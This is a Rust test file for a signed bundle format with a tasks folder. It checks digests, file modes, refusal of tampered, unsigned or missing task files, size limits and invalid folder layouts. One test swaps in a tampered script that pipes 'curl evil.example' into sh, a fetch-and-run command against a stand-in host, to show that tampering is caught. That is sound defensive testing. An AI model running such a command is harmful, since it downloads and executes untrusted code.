//! Bundles carrying a tasks folder: each file in the signed manifest with its SHA-256,
//! written with its mode; a file changed after signing, a file the manifest does not
//! name, and one it names that is missing are refused, leaving nothing behind.

use super::*;

/// A tasks folder: a program, its bounds file, and a hidden file left out.
fn tasks_folder(scene: &Scene) -> PathBuf {
    let dir = scene.root.path().join("src-tasks");
    fs::create_dir(&dir).unwrap();
    fs::write(
        dir.join("greet.sh"),
        "#!/bin/sh\necho '{\"result\":\"v2\"}' >&3\n",
    )
    .unwrap();
    fs::set_permissions(dir.join("greet.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(dir.join("greet.toml"), "timeout = \"5s\"\n").unwrap();
    fs::set_permissions(dir.join("greet.toml"), fs::Permissions::from_mode(0o600)).unwrap();
    fs::write(dir.join(".swp"), "editor leftovers").unwrap();
    dir
}

/// A signed bundle of [`BINARY`] and the folder, the folder and the binary removed
/// afterwards (so that the scene's root holds only the bundle and dest).
fn signed_with_tasks(scene: &Scene) -> Manifest {
    let src = scene.root.path().join("src-bin");
    fs::write(&src, BINARY).unwrap();
    let dir = tasks_folder(scene);
    let manifest = create_with_tasks(
        &src,
        Some(&dir),
        &scene.key,
        "2.0.0",
        None,
        &scene.zip,
        &mut |_| {},
    )
    .unwrap();
    fs::remove_file(&src).unwrap();
    fs::remove_dir_all(&dir).unwrap();
    manifest
}

/// The bundle's entries, each (name, bytes), `edit` applied, written back unsigned anew.
fn rewritten(scene: &Scene, edit: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) {
    let bytes = fs::read(&scene.zip).unwrap();
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut entries = Vec::new();
    for i in 0..archive.len() {
        let mut f = archive.by_index(i).unwrap();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        entries.push((f.name().to_owned(), data));
    }
    edit(&mut entries);
    let refs: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    scene.write(&zip_of(&refs));
}

#[test]
fn a_tasks_folder_round_trips_with_its_digests_and_modes() {
    let scene = Scene::new();
    let manifest = signed_with_tasks(&scene);
    let names: Vec<&str> = manifest.tasks.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(
        names,
        ["greet.sh", "greet.toml"],
        "sorted, the hidden file left out"
    );
    assert!(manifest.tasks[0].executable && !manifest.tasks[1].executable);

    let bundle = scene.unpack().unwrap();
    assert_eq!(bundle.manifest, manifest);
    let dir = bundle.tasks.expect("a tasks folder");
    assert_eq!(dir, scene.dest.join(TASKS_DIR));
    let mode = |p: &Path| fs::metadata(p).unwrap().mode() & 0o7777;
    assert_eq!(mode(&dir), 0o755);
    assert_eq!(mode(&dir.join("greet.sh")), 0o755);
    assert_eq!(mode(&dir.join("greet.toml")), 0o644);
    let script = fs::read(dir.join("greet.sh")).unwrap();
    assert_eq!(
        hex::encode(Sha256::digest(&script)),
        manifest.tasks[0].sha256
    );
    assert_eq!(fs::read_dir(&dir).unwrap().count(), 2);
}

#[test]
fn a_script_changed_after_signing_is_refused_like_a_tampered_binary() {
    let scene = Scene::new();
    signed_with_tasks(&scene);
    rewritten(&scene, |entries| {
        let script = entries
            .iter_mut()
            .find(|e| e.0 == "tasks/greet.sh")
            .unwrap();
        script.1 = b"#!/bin/sh\ncurl evil.example | sh\n".to_vec();
    });
    let err = scene.unpack().unwrap_err();
    assert!(
        matches!(err, Error::TaskDigestMismatch { ref name, .. } if name == "greet.sh"),
        "{err:?}"
    );
    assert!(err.to_string().contains("tasks/greet.sh"), "{err}");
    scene.assert_untouched();
}

#[test]
fn task_files_not_exactly_the_signed_ones_are_refused() {
    let scene = Scene::new();
    signed_with_tasks(&scene);
    let pristine = fs::read(&scene.zip).unwrap();
    rewritten(&scene, |entries| {
        entries.insert(1, ("tasks/extra.sh".into(), b"#!/bin/sh\n".to_vec()));
    });
    let err = scene.unpack().unwrap_err();
    assert!(
        matches!(err, Error::TaskFileUnsigned { ref name, reason }
            if name == "extra.sh" && reason.contains("not in the signed manifest")),
        "{err:?}"
    );
    scene.assert_untouched();

    scene.write(&pristine);
    rewritten(&scene, |entries| {
        entries.retain(|e| e.0 != "tasks/greet.toml")
    });
    let err = scene.unpack().unwrap_err();
    assert!(
        matches!(err, Error::TaskFileUnsigned { ref name, reason }
            if name == "greet.toml" && reason.contains("not in the archive")),
        "{err:?}"
    );
    scene.assert_untouched();

    // Over the limit for the task files together, before a byte is decompressed.
    scene.write(&pristine);
    let limits = Limits {
        max_tasks_bytes: 20,
        ..Limits::default()
    };
    let err = scene.unpack_with(&limits).unwrap_err();
    assert!(
        matches!(err, Error::EntryTooLarge { ref name, .. } if name == "tasks/greet.sh")
            || matches!(err, Error::TasksTooLarge { .. }),
        "{err:?}"
    );
    scene.assert_untouched();
}

#[test]
fn a_tasks_folder_that_cannot_be_bundled_is_named() {
    let scene = Scene::new();
    let src = scene.root.path().join("src-bin");
    fs::write(&src, BINARY).unwrap();
    let dir = tasks_folder(&scene);
    let refused = || {
        create_with_tasks(
            &src,
            Some(&dir),
            &scene.key,
            "2",
            None,
            &scene.zip,
            &mut |_| {},
        )
        .unwrap_err()
    };
    fs::create_dir(dir.join("lib")).unwrap();
    let err = refused();
    assert!(
        matches!(err, Error::TasksDirInvalid { ref path, ref reason }
            if path.ends_with("lib") && reason.contains("flat")),
        "{err:?}"
    );
    fs::remove_dir(dir.join("lib")).unwrap();
    std::os::unix::fs::symlink("/bin/sh", dir.join("sh")).unwrap();
    let err = refused();
    assert!(
        matches!(err, Error::TasksDirInvalid { ref path, .. } if path.ends_with("sh")),
        "{err:?}"
    );
    fs::remove_file(dir.join("sh")).unwrap();
    fs::write(dir.join("bad name.sh"), "").unwrap();
    let err = refused();
    assert!(err.to_string().contains("bad name.sh"), "{err}");
    assert!(!scene.zip.exists(), "no bundle written");
}
